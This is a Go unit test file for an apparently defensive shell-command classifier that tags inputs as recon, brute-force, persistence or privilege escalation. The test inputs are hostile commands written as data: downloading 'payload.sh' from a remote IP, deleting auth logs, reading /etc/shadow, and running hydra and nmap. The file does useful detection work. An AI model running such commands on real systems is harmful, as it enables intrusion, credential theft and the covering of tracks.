// internal/classify/classify_test.go
package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestMatcherSubstringSignatures(t *testing.T) {
	m := NewMatcher(DefaultSignatures())

	matches := m.Classify("NMAP -sV 10.0.0.5")
	require.NotEmpty(t, matches, "substring match is case-insensitive")
	assert.Equal(t, "Nmap scan detected", matches[0].Description)
	assert.Equal(t, "recon", matches[0].Category)

	assert.Empty(t, m.Classify("ls -la /tmp"))
}

func TestMatcherRegexSignatures(t *testing.T) {
	m := NewMatcher(DefaultSignatures())

	matches := m.Classify("wget http://198.51.100.7/payload.sh")
	var descs []string
	for _, match := range matches {
		descs = append(descs, match.Description)
	}
	assert.Contains(t, descs, "Remote file download")

	matches = m.Classify("rm -rf /var/log/auth.log")
	descs = nil
	for _, match := range matches {
		descs = append(descs, match.Description)
	}
	assert.Contains(t, descs, "Log tampering detected")
}

func TestMatcherMultipleHits(t *testing.T) {
	m := NewMatcher(DefaultSignatures())
	matches := m.Classify("sudo cat /etc/shadow")
	require.GreaterOrEqual(t, len(matches), 2, "both the sudo and shadow rules fire")
}

func TestBadRegexIsDropped(t *testing.T) {
	m := NewMatcher([]Signature{
		{Pattern: "(unclosed", Description: "broken rule", Regex: true},
		{Pattern: "nmap", Description: "scan", Category: "recon"},
	})
	matches := m.Classify("nmap target")
	require.Len(t, matches, 1)
	assert.Equal(t, "scan", matches[0].Description)
}

func TestCategories(t *testing.T) {
	m := NewMatcher(DefaultSignatures())

	assert.Contains(t, m.Categories("hydra -l admin target"), "brute")
	assert.Contains(t, m.Categories("nmap -p- host"), "recon")
	assert.Contains(t, m.Categories("crontab -e"), "persistence")
	assert.Contains(t, m.Categories("sudo su"), "priv")
	assert.Empty(t, m.Categories("ls -la"))

	cats := m.Categories("sudo crontab -e")
	assert.Contains(t, cats, "priv")
	assert.Contains(t, cats, "persistence")
}
